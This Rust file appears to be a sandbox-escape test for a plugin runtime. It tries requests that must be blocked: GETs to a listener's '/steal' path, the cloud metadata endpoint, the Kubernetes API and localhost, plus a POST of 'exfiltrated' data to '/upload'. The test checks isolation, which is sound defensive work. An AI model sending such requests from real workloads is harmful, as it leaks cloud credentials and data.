//! Attack: HTTP to a host that is not granted at all: the test's listener
//! (`arg` = its URL), the cloud metadata service, the cluster's API server.
use attack_kit::sdk::capstan::plugin::types::{TaskError, TaskInput, TaskResult};
use attack_kit::sdk::http;
use attack_kit::{Tries, arg};

fn run(input: TaskInput) -> Result<Vec<TaskResult>, TaskError> {
    let mut t = Tries::new();
    let url = arg(&input);
    for u in [
        format!("{url}/steal"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        "https://kubernetes.default.svc/api".to_string(),
        "http://localhost/".to_string(),
    ] {
        t.must_fail(
            &format!("GET {u}"),
            http::send("GET", &u, &[], None).map(|r| r.status),
        );
    }
    t.must_fail(
        "POST with a body",
        http::send("POST", &format!("{url}/upload"), &[], Some(b"exfiltrated")).map(|r| r.status),
    );
    t.finish()
}

attack_kit::attack!(run);

#[used]
#[unsafe(link_section = "capstan-manifest")]
static MANIFEST: [u8; include_bytes!("../capstan.toml").len()] = *include_bytes!("../capstan.toml");
